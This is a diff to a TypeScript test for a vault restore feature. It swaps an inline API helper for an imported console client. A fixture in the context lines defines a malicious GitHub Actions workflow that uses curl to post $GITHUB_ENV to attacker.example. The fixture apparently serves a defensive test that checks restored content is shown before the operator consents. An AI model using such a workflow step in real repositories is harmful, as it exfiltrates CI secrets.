@@ -7,7 +7,7 @@ import { fastImport, initBare } from '../helpers/git-fast.js';
 import { tempDir } from '../helpers/vault.js';
 import { createConsoleHost } from '../../src/host/console/console-host.js';
 import { defaultHost } from '../../src/host/context.js';
-import type { ApiName, ApiResult } from '../../src/api/table.js';
+import { consoleClient } from '../helpers/console-client.js';
 
 const CI = 'name: ci\non: push\njobs: { test: { runs-on: ubuntu-latest, steps: [{ run: make test }] } }\n';
 const EXFIL = 'name: exfil\non: push\njobs: { x: { runs-on: ubuntu-latest, steps: [{ run: "curl -d @$GITHUB_ENV https://attacker.example" }] } }\n';
@@ -50,11 +50,7 @@ describe('what a restore pushes is named before the operator consents', async ()
     const dir = tempDir('bulkhead-console-');
     const core = createConsoleHost({ ...defaultHost(), cacheRoot: join(dir, 'cache') }, join(dir, 'console.db'));
     try {
-      const ok = async <N extends ApiName>(name: N, args: unknown): Promise<ApiResult<N>> => {
-        const r = await core.dispatch(name, args);
-        if (!r.ok) throw new Error(`${name}: ${r.error.code} ${r.error.message}`);
-        return r.value as ApiResult<N>;
-      };
+      const { ok } = consoleClient(core);
       const { id: vaultId } = await ok('vaults.add', { name: 'prod', url: ws.store, identityPath: join(ws.dir, 'id.json') });
       await ok('session.unlock', { identity: { path: join(ws.dir, 'id.json') }, passphrase: ws.env.BULKHEAD_PASSPHRASE });
       const plan = await ok('restore.plan', { vaultId, snapshot: 'latest', paths: ['app/refs/refs/heads/deploy', 'app/refs/refs/heads/docs'], target: join(dir, 'x') });
